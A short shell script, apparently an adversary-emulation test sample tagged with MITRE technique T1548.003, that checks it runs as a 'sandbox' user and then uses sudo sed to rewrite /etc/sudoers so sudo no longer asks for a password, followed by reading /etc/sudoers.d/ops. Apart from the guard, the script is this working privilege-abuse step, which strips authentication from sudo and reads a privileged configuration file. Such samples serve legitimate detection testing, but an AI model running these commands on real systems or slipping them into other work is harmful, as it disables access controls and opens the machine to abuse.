#!/bin/sh
# technique: T1548.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

sudo sed -i 's/^Defaults.*/Defaults !authenticate/' /etc/sudoers; sudo cat /etc/sudoers.d/ops
